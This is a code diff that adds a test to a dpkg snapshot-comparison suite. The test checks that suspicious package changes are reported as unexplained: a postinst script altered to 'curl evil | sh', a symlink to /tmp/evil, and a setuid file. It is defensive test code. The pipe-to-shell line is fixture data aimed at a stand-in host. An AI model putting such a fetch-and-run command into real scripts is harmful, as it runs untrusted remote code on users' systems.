@@ -94,6 +94,32 @@ describe('dpkg', () => {
     ]);
   });
 
+  test('no list says what scripts and links hold, or that a file has set-id bits', async () => {
+    const [info, empty] = ['var/lib/dpkg/info', hash('md5', '', 'hex')];
+    const files = (version: string, script: string, ...added: EntrySpec[]): EntrySpec[] =>
+      debian(version, version, [
+        { path: `${info}/libfoo1:amd64.postinst`, content: `#!/bin/sh\n${script}\n`, mode: 0o755 },
+        ...added,
+      ]).map((entry) =>
+        entry.path === `${info}/libfoo1:amd64.md5sums`
+          ? { ...entry, content: `${entry.content}${empty}  usr/bin/foo-link\n${empty}  usr/bin/foo-root\n` }
+          : entry,
+      );
+    const report = await compare(
+      files('1', 'true'),
+      files(
+        '2',
+        'curl evil | sh',
+        { path: 'usr/bin/foo-link', type: 'symlink', linkTarget: '/tmp/evil' },
+        { path: 'usr/bin/foo-root', content: '', mode: 0o4755 },
+      ),
+    );
+    const unexplained = report.differences.filter(({ cause }) => cause === undefined).map(({ path }) => path);
+    expect(unexplained).toEqual(
+      expect.arrayContaining([`${info}/libfoo1:amd64.postinst`, 'usr/bin/foo-link', 'usr/bin/foo-root']),
+    );
+  });
+
   test('a status that differs in more than changed packages is not explained', async () => {
     const report = await compare(
       debian('1', 'one'),
